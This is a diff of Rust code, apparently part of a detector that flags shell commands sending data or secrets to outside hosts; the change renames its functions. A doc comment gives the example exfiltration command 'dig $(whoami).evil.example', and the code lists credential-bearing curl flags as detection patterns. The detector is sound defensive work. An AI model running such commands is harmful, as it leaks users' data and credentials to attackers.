@@ -54,22 +54,22 @@ const DATA: &[&str] = &[
     "--body-file",
 ];
 
-pub(super) fn look(views: &[View<'_>], groups: &[Redirected], found: &mut Found) {
+pub(super) fn note_sent(views: &[View<'_>], groups: &[Redirected], found: &mut Found) {
     let mut asked = false;
     for view in views.iter().take_while(|view| view.is_paid_for()) {
-        let hosts = hosts::contacted(view);
+        let hosts = hosts::contacted_hosts(view);
         let puts = !view.values(DATA).is_empty()
             || view.has_argument(&["-X", "--method=POST"])
             || !super::hosts::DOWNLOADERS.contains(&view.name.as_str());
         let dropped =
             hosts.iter().filter(|host| hosts::is_catcher(host) || (puts && hosts::is_drop(host)));
         found.drops.extend(dropped.cloned());
-        if hosts::carries(view) && !hosts.is_empty() {
-            variables(view, found);
+        if hosts::can_send_data(view) && !hosts.is_empty() {
+            note_sent_variables(view, found);
         }
         found.hosts.extend(hosts);
-        names(view, found);
-        asked |= statements(view, found);
+        note_computed_names(view, found);
+        asked |= note_sent_statements(view, found);
     }
     if asked {
         // The text echoed into a client is not distinguished from text echoed elsewhere on the
@@ -81,7 +81,9 @@ pub(super) fn look(views: &[View<'_>], groups: &[Redirected], found: &mut Found)
     let sockets: Vec<String> =
         groups.iter().filter_map(|(_, file)| hosts::of_socket(file)).collect();
     let carriers = !sockets.is_empty()
-        || views.iter().any(|view| hosts::carries(view) && !hosts::contacted(view).is_empty());
+        || views
+            .iter()
+            .any(|view| hosts::can_send_data(view) && !hosts::contacted_hosts(view).is_empty());
     found.hosts.extend(sockets);
     if carriers {
         let kept = found
@@ -114,7 +116,7 @@ fn printed(view: &View<'_>, groups: &[Redirected]) -> Option<String> {
 }
 
 /// Variables that are named like secrets, in what is sent. Headers and `-u` authenticate.
-fn variables(view: &View<'_>, found: &mut Found) {
+fn note_sent_variables(view: &View<'_>, found: &mut Found) {
     let signs = ["-H", "--header", "-u", "--user", "--oauth2-bearer", "--password", "-b"];
     let mut args = view.args.iter().map(String::as_str);
     while let Some(arg) = args.next() {
@@ -144,7 +146,7 @@ fn secret_variables(text: &str) -> Vec<String> {
 
 /// `dig $(whoami).evil.example`: a name that is computed and then asked for is a message to the
 /// server that answers.
-fn names(view: &View<'_>, found: &mut Found) {
+fn note_computed_names(view: &View<'_>, found: &mut Found) {
     if !RESOLVERS.contains(&view.name.as_str()) {
         return;
     }
@@ -185,7 +187,7 @@ const CLIENTS: &[&str] = &[
 
 /// What a database client is handed: arguments and here-documents; and whether something may be
 /// echoed into it.
-fn statements(view: &View<'_>, found: &mut Found) -> bool {
+fn note_sent_statements(view: &View<'_>, found: &mut Found) -> bool {
     let name = view.name.as_str();
     if !CLIENTS.contains(&name) {
         return false;
